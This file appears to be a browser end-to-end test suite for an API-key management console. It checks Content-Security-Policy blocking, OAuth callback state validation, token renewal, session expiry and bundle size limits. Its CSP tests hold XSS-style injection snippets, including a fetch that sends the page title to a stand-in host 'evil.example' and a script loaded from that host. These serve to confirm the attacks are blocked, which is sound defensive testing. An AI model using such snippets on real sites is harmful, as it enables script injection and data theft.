import { readdir, readFile, stat } from "node:fs/promises";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type ConsoleBench, startConsole } from "../harness/console.ts";

let bench: ConsoleBench;

beforeAll(async () => {
  bench = await startConsole();
  await bench.found("ada", "Analytical Engines");
});

afterAll(() => bench.close());

/** Adds an element as an injection would, and returns what the page's policy reported. */
async function inject(page: { evaluate(script: string): Promise<unknown> }, script: string): Promise<unknown> {
  return page.evaluate(`new Promise((resolve) => {
    addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
    setTimeout(() => resolve("nothing"), 5_000);
    try { ${script} } catch (err) { resolve(err.name); }
  })`);
}

test.each([
  [
    "an inline script",
    `const e = document.createElement("script"); e.textContent = "window.stolen = 1"; document.body.append(e)`,
  ],
  [
    "a script of another origin",
    `const e = document.createElement("script"); e.src = "https://evil.example/x.js"; document.body.append(e)`,
  ],
  [
    "an event handler in HTML",
    `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.stolen = 1'>")`,
  ],
])("%s that is injected into the page does not run", async (_what, script) => {
  const { page } = await bench.signIn("ada");
  const blocked = await inject(page, script);
  expect(blocked).not.toBe("nothing");
  expect(await page.evaluate("window.stolen")).toBeUndefined();
  await page.context().close();
});

test.each([
  ["a call", `fetch("https://evil.example/" + document.title).catch(() => undefined)`, "connect-src"],
  [
    "a picture",
    `const e = document.createElement("img"); e.src = "https://evil.example/x.png"; document.body.append(e)`,
    "img-src",
  ],
  [
    "an inline style",
    `const e = document.createElement("style"); e.textContent = "*{}"; document.body.append(e)`,
    "style-src-elem",
  ],
  [
    "a frame",
    `const e = document.createElement("iframe"); e.src = "https://evil.example/"; document.body.append(e)`,
    "frame-src",
  ],
])("%s to another origin is blocked", async (_what, script, directive) => {
  const { page } = await bench.signIn("ada");
  expect(await inject(page, script)).toBe(directive);
  await page.context().close();
});

test("a sign-in that was begun elsewhere, or whose state differs, signs no user in", async () => {
  const { page, close } = await bench.open();
  await page.goto(`${bench.url}/callback?code=stolen&state=guessed`);
  await page.getByText("This sign-in was not begun here, or is over.").waitFor();
  expect(page.url()).toBe(bench.url);
  await page.evaluate(
    `sessionStorage.setItem("latchkey.sign-in", JSON.stringify({ state: "mine", nonce: "n", verifier: "v", returnTo: "/console/keys" }))`,
  );
  await page.goto(`${bench.url}/callback?code=stolen&state=guessed&iss=${encodeURIComponent(bench.provider.issuer)}`);
  await page.getByText(/The sign-in failed: unexpected "state"/).waitFor();
  await expect.poll(() => page.getByRole("button", { name: "Sign in" }).count()).toBe(1);
  await close();
});

test("a session whose tokens are no longer renewed asks for a new sign-in, and the page stays", async () => {
  const { page, picture } = await bench.signIn("ada");
  await page.goto(`${bench.url}/keys/new`);
  await page.getByLabel("Name", { exact: true }).fill("half written");
  // The provider is away for renewals, and the service refuses the token that there is.
  await page.route("**/token", (route) => route.fulfill({ status: 400, json: { error: "invalid_grant" } }));
  await page.route("**/latchkey.v1.ApiKeyService/CreateApiKey", (route) =>
    route.fulfill({ status: 401, json: { code: "unauthenticated", message: "expired" } }),
  );
  await page.getByLabel(/^Plans/).selectOption("Read");
  await page.getByRole("button", { name: "Create key" }).click();
  await page.getByRole("heading", { name: "Your session is over" }).waitFor();
  await picture("session-over");
  await page.unrouteAll();
  // The provider still knows the browser, so that the window may be closed before it is looked at.
  const closed = page.waitForEvent("popup").then((popup) => expect.poll(() => popup.isClosed()).toBe(true));
  await page.getByRole("alertdialog").getByRole("button", { name: "Sign in" }).click();
  await closed;
  await page.getByRole("alertdialog").waitFor({ state: "detached" });
  await expect.poll(() => page.getByLabel("Name", { exact: true }).inputValue()).toBe("half written");
  await page.getByRole("button", { name: "Create key" }).click();
  await page.getByRole("heading", { name: "Your new key" }).waitFor();
  await page.context().close();
});

test("a sign-in as another user does not go on with the page of the first", async () => {
  await bench.found("eve", "Other Engines");
  const { page, close } = await bench.signIn("ada");
  await page.route("**/ListApiKeys", (route) => route.fulfill({ status: 401, json: { code: "unauthenticated" } }));
  await page.route("**/token", (route) => route.fulfill({ status: 400, json: { error: "invalid_grant" } }));
  await page.getByLabel("Status").selectOption("active");
  await page.getByRole("heading", { name: "Your session is over" }).waitFor();
  await page.unrouteAll();
  await page.context().clearCookies();
  const opened = page.waitForEvent("popup");
  await page.getByRole("alertdialog").getByRole("button", { name: "Sign in" }).click();
  const popup = await opened;
  await popup.getByLabel("New user").fill("eve");
  await popup.getByRole("button", { name: "Sign in", exact: true }).click();
  await page.getByText("You signed in as eve@example.com, and this page is of ada@example.com.").waitFor();
  await page.getByRole("heading", { name: "Your session is over" }).waitFor();
  await close();
});

test("a token that the service refuses is renewed once, unseen by the user", async () => {
  await bench.found("grace", "Compilers");
  const { page, close } = await bench.signIn("grace");
  await page.getByRole("heading", { name: "No keys yet" }).waitFor();
  // Counted by lists, too.
  await page.getByText("0 of 10,000 keys").waitFor();
  let refused = 0;
  let renewed = 0;
  await page.route("**/latchkey.v1.ApiKeyService/ListApiKeys", async (route) => {
    if (refused++ > 0) return route.continue();
    return route.fulfill({ status: 401, json: { code: "unauthenticated", message: "expired" } });
  });
  page.on("request", (request) => {
    if (request.url().endsWith("/token") && request.method() === "POST") renewed += 1;
  });
  await page.getByLabel("Status").selectOption("active");
  await page.getByRole("heading", { name: "No key matches" }).waitFor();
  await expect.poll(() => [refused, renewed]).toEqual([2, 1]);
  await expect.poll(() => page.getByRole("alert").count()).toBe(0);
  await close();
});

test("the console has at most 300 KB compressed, all of its pages together", async () => {
  const files = await readdir("console/dist", { recursive: true });
  const sizes = await Promise.all(
    files.filter((name) => name.endsWith(".gz")).map(async (name) => (await stat(`console/dist/${name}`)).size),
  );
  expect(sizes.length).toBeGreaterThan(5);
  expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThanOrEqual(300_000);
});

/** The scripts that a file imports at once, by their names, with those that these import, and itself. */
async function withImports(name: string, known: Set<string> = new Set()): Promise<Set<string>> {
  if (known.has(name)) return known;
  known.add(name);
  const script = await readFile(`console/dist/assets/${name}`, "utf8");
  for (const [, imported = ""] of script.matchAll(/(?:from|import)\s*["`]\.\/([\w.-]+\.js)["`]/g))
    await withImports(imported, known);
  return known;
}

/** The script of this name that one of several loads when it needs it. */
async function importedLater(scripts: Iterable<string>, name: string): Promise<string> {
  for (const script of scripts) {
    const text = await readFile(`console/dist/assets/${script}`, "utf8");
    const [, imported] = new RegExp(`import\\(["\`]\\./(${name}-[\\w-]+\\.js)["\`]\\)`).exec(text) ?? [];
    if (imported !== undefined) return imported;
  }
  throw new Error(`none of ${[...scripts].join(", ")} loads ${name}`);
}

async function compressedBytes(scripts: Iterable<string>): Promise<number> {
  let bytes = 0;
  for (const name of scripts) bytes += (await stat(`console/dist/assets/${name}.br`)).size;
  return bytes;
}

test("the overview, the first page, loads at most 121 KiB of scripts, without charts and dialogs, and the way in at most 10", async () => {
  const html = await readFile("console/dist/index.html", "utf8");
  const [, entry = ""] = /src="\/console\/assets\/([\w.-]+\.js)"/.exec(html) ?? [];
  const wayIn = await withImports(entry);
  expect(await compressedBytes(wayIn)).toBeLessThanOrEqual(10 * 1_024);
  const scripts = await withImports(await importedLater(wayIn, "page"), wayIn);
  await withImports(await importedLater(scripts, "overview-page"), scripts);
  expect(scripts.size).toBeGreaterThan(5);
  expect(await compressedBytes(scripts)).toBeLessThanOrEqual(121 * 1_024);
  for (const name of scripts) expect(name).not.toMatch(/usage|plot|dialog-popup/);
});

test("a reload passes through the identity provider without loading the page twice", async () => {
  const { page, close } = await bench.signIn("ada");
  const loaded: string[] = [];
  page.on("request", (request) => {
    if (/\/assets\/(?:page|libraries)-[\w-]+\.js$/.test(request.url())) loaded.push(request.url());
  });
  await page.reload();
  await page.getByRole("button", { name: "Account of ada" }).waitFor();
  expect(loaded.length).toBe(2);
  expect(new Set(loaded).size).toBe(2);
  await close();
});
